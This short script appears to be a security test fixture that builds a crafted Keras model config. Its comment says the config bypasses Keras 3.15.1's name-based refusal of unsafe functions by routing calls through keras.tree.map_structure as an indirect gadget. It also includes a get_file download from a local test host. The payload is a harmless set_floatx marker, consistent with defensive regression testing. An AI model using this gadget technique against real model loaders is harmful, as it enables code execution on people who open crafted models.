# include: forge
def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def called(name, gadget, arguments):
    return layer("Lambda", name, {"function": gadget}, arguments=arguments)


UNSAFE = called("unsafe", function("keras.config", "enable_unsafe_deserialization"), {"inputs": []})
FETCH = called("fetch", function("keras.utils", "get_file"), {"inputs": "x", "origin": "http://127.0.0.1:@TCP_PORT@/x"})
# Keras 3.15.1 refuses those two by name; this one it does not, and it calls what it is given.
GADGET = function("keras.tree", "map_structure")
INDIRECT = {"inputs": function("keras.config", "set_floatx"), "structures": "float16"}
evil = called("evil", function("keras.config", "set_floatx"), {"inputs": "float16"})
leave(models(evil, end="x", unused=[UNSAFE, FETCH, called("hidden", GADGET, INDIRECT)]))
